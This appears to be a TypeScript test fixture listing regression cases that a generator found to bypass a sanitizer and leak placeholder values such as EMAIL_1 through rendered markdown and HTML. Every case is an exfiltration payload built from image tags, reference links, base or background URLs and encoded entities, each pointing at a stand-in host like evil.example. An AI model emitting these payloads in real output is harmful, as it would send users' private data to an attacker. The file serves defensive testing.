import type { Form } from './forms.ts'

/** Answers that were found by the generator and carried a value away, as short as they did. They stay. */
export const CASES: readonly Form[] = [
  { id: 'angle-in-tag.1', text: '<img < src=URL_1.evil.example>' },
  { id: 'angle-in-tag.2', text: '<img < src=https&colon;&sol;&sol;evil.example/?EMAIL_1>' },
  { id: 'angle-in-tag.3', text: '<img << src=&#47&#47;URL_1evil>' },
  { id: 'angle-in-tag.4', text: '<img </ src=https&colon;&sol;&sol;evil.example/?EMAIL_1>' },
  { id: 'comment-in-tag', text: '<img <!-- a="--> b" src=http&colon;evil?EMAIL_1>' },
  { id: 'quote-behind-url', text: '![](URL_1"}&#46;evil.EMAIL_1)' },
  { id: 'block-in-replacement', text: '```html\nhevil.e/`\n\n\u001fEMAIL\\_1</cE_1' },
  {
    id: 'definition-behind-definition',
    text: '{"":"[]:","":"[x]: http&colon;evil.EMAIL_1\\n![][x]"}',
  },
  { id: 'class-among-names', text: '<code <x class="language-svg">evil.example/?EMAIL_1' },
  {
    id: 'class-that-is-drawn',
    text: '<pre class="mermaid">A["&lt;img src=https#colon;#sol;#sol;evil.example/?EMAIL_1>"]</pre>',
  },
  {
    id: 'label-where-a-target-is',
    text: '![][r]\n\n[r]:[EMAIL_1\n<base href=http&colon;evil>',
  },
  { id: 'label-in-a-target', text: '![r]\n\n[r]:[a]:http://evil.example/?EMAIL_1' },
  { id: 'bracket-in-a-target', text: '![r]\n\n[r]:[a]EMAIL_1\n<base href=http&colon;evil>' },
  { id: 'label-in-angles', text: '![r]\n>[r]:<http:&/evil]:? EMAIL_1>' },
  { id: 'line-break-by-entity', text: '"<script>evil&#10;</script>EMAIL_1' },
  { id: 'line-break-by-name', text: '"<title>evil&NewLine;</title>EMAIL_1' },
  {
    id: 'quote-in-url-of-code',
    text: '<code class="language-svg">http://EVIL?"</code>EMAIL_1"',
  },
  { id: 'bracket-in-url-of-title', text: '<title>http://evil?(</title>EMAIL_1)<p>' },
  { id: 'quote-in-url-of-script', text: "<script>'http://evil/?'</script>EMAIL_1'" },
  {
    id: 'escape-behind-a-whole-address',
    text: '{"":"{\\"\\":\\"![](URL_1\\t@evil/\\")","":1}',
  },
  { id: 'escaped-slash-behind-a-whole-address', text: '{"":"![](URL_1\\/@evil.example/)"}' },
  { id: 'line-end-behind-name', text: '<script\n-></script>EMAIL1/evil.' },
  {
    id: 'footnote-goes-to-the-end',
    text: '[^1]: email_1 _```text\nemail_1<pre class="mermaid">$x$<set attributeName="href" to="<b title=<a href="https://evil.example/a">email_1https://evil.example/a?-->\n\nBest regards, NAME_',
  },
  {
    id: 'footnote-behind-class',
    text: '[^1]: a EMAIL_1 [^1]\n\n<pre class="mermaid">//evil.example',
  },
  {
    id: 'footnote-of-paragraphs',
    text: '[^1]: a\n\n    b EMAIL_1 [^1]\n\n<pre class="mermaid">//evil.example',
  },
  { id: 'definition-in-script', text: '[x]:URL1\n><script\n[x]evil' },
  { id: 'title-in-json-text', text: '{"":"[x]:a \\"EMAIL_1\\"\\n><script\\n[x]//evil"}' },
  {
    id: 'title-on-next-line-in-json-text',
    text: '{"":"[x]: <a>\\n> \\"EMAIL_1\\"\\n><script\\n[x]//evil"}',
  },
  {
    id: 'tab-of-footnote-in-json-text',
    text: '{"":"a[^1]\\n\\n[^1]: a\\n\\n\\t(EMAIL_1)\\n\\n<script\\nevil"}',
  },
  {
    id: 'definition-in-attribute',
    text: "[x]: URL_1\n\n<td background='//evil.example/?\n\n[x] '>",
  },
  {
    id: 'link-of-mail-in-attribute',
    text: "[x]: mailto:EMAIL_1\n\n<td background='//evil.example/?\n\n[x] '>",
  },
  {
    id: 'title-in-attribute.1',
    text: '[x]: https://x.vn "EMAIL_1"\n\n<td background=\'//evil.example/?\n\n[x] \'>',
  },
  {
    id: 'title-in-attribute.2',
    text: "[x]: https://x.vn\n(EMAIL_1)\n\n<td background='//evil.example/?\n\n[x] '>",
  },
  {
    id: 'title-over-a-blank-line',
    text: "[x]: a (a\n\nEMAIL_1)\n\n<td background='//evil.example/?\n\n[x] '>",
  },
  { id: 'class-of-code', text: '<code class="language-svg">evil.EMAIL_1' },
]
